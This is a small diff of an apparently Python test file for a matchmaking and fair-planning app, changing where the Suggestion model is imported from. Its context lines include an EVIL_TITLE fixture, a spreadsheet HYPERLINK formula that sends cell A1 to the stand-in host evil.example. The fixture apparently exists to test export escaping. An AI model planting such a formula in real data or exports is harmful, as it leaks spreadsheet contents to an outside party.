@@ -14,7 +14,7 @@ from matchmaker.fairs import organize as fair_service
 from matchmaker.fairs import plan as fair_plan
 from matchmaker.listings.taxonomy import field_by_name
 from matchmaker.pairs import transitions as pairs
-from matchmaker.runs.models import Suggestion
+from matchmaker.pairs.models import Suggestion
 
 FIELD = "机器人与智能制造"
 EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
